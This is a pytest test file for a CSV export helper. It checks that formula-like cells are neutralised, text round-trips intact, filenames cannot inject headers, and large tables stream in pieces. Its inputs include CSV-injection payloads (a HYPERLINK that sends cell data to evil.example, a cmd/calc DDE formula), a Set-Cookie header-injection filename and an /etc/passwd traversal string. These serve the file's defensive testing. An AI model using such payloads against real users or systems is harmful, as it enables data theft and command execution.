"""CSV downloads: what spreadsheets make of them, and that they are written while they are read."""

import csv
import io
from collections.abc import AsyncIterator, Iterable
from datetime import UTC, datetime
from decimal import Decimal

import httpx
import pytest
from fastapi import FastAPI
from fastapi.responses import StreamingResponse

from endy.web.csv import PIECE, content_disposition, csv_response

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example?\"&A1,\"눌러\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "-5",
    "+82-10-0000-0000",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    '"=1+1',
    "'=1+1",
    ' " =1+1',
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\x00=1+1",
    "\x07=1+1",
]  # fmt: skip
TEXTS = ["연차 이월", "a,b", 'a "b" c', "첫 줄\r\n둘째 줄", "1 = 1", "a@b.example", "2026-11-23", "'", "", "5", "😀"]


async def download(response: StreamingResponse) -> httpx.Response:
    app = FastAPI()
    app.add_api_route("/x", lambda: response, response_model=None)
    async with httpx.AsyncClient(transport=httpx.ASGITransport(app), base_url="http://endy.test") as http:
        return await http.get("/x")


async def table(rows: Iterable[Iterable[object]], header: tuple[str, ...] = ("질문",)) -> list[list[str]]:
    """The rows below the header as a reader of CSV sees them."""
    answer = await download(csv_response("a.csv", header, [tuple(row) for row in rows]))
    found = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), strict=True))
    return found[1:]


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
async def test_no_text_is_a_formula(text: str) -> None:
    """Whatever people type, a spreadsheet shows it: an apostrophe comes first, and nothing of the text is lost."""
    [[cell]] = await table([[text]])
    assert cell[0] == "'"
    assert cell[1:] == text.lstrip("\x00\x07")


async def test_a_header_is_no_formula_either() -> None:
    """Names of categories become headers in some tables."""
    answer = await download(csv_response("a.csv", ["=1+1"], []))
    assert answer.content.decode("utf-8-sig") == "'=1+1\r\n"


async def test_other_text_comes_back_unchanged() -> None:
    """Commas, quotation marks and line ends are quoted as RFC 4180 says; lone halves of characters are left out."""
    assert await table([[text] for text in TEXTS if text]) == [[text] for text in TEXTS if text]
    assert await table([TEXTS]) == [TEXTS]
    assert await table([["a\ud800b"]]) == [["ab"]]


async def test_numbers_stay_numbers() -> None:
    """What is a number in the program may begin with a minus; nothing is an empty cell."""
    day = datetime(2026, 11, 23, 9, 0, tzinfo=UTC)
    [row] = await table([[-5, -0.5, Decimal("-1.25"), True, None, day]])
    assert row == ["-5", "-0.5", "-1.25", "True", "", "2026-11-23 09:00:00+00:00"]


async def test_excel_knows_the_encoding() -> None:
    """UTF-8 with its mark and the line ends of the standard; the type says so, too."""
    answer = await download(csv_response("a.csv", ["질문"], [["답"]]))
    assert answer.content == b"\xef\xbb\xbf" + "질문\r\n답\r\n".encode()
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"


@pytest.mark.parametrize(
    ("name", "plain", "full"),
    [
        ("feedback.csv", "feedback.csv", "feedback.csv"),
        ("의견 2026.csv", "__ 2026.csv", "%EC%9D%98%EA%B2%AC%202026.csv"),
        ('a"; filename="b.exe', "a__ filename__b.exe", "a%22%3B%20filename%3D%22b.exe"),
        ("a\r\nSet-Cookie: x.csv", "a__Set-Cookie_ x.csv", "a%0D%0ASet-Cookie%3A%20x.csv"),
        ("../../etc/passwd", ".._.._etc_passwd", "..%2F..%2Fetc%2Fpasswd"),
    ],
)
def test_a_name_cannot_leave_its_header(name: str, plain: str, full: str) -> None:
    """Korean names arrive whole, and nothing in a name begins something new."""
    assert content_disposition(name) == f"attachment; filename=\"{plain}\"; filename*=UTF-8''{full}"


async def test_a_large_table_is_sent_while_it_is_read() -> None:
    """The first piece leaves long before the last row is there, and no piece is large."""
    read = 0

    async def rows() -> AsyncIterator[tuple[int, str]]:
        nonlocal read
        for read in range(50_000):
            yield read, "연차는 며칠이에요?"

    pieces = csv_response("a.csv", ["번호", "질문"], rows()).body_iterator
    first = await anext(aiter(pieces))
    assert read < 5000
    rest = [piece async for piece in pieces]
    assert max(len(piece) for piece in (first, *rest)) < 4 * PIECE
    found = list(csv.reader(io.StringIO(b"".join([first, *rest]).decode("utf-8-sig"))))  # type: ignore[list-item]
    assert (len(found), found[-1]) == (50_001, ["49999", "연차는 며칠이에요?"])
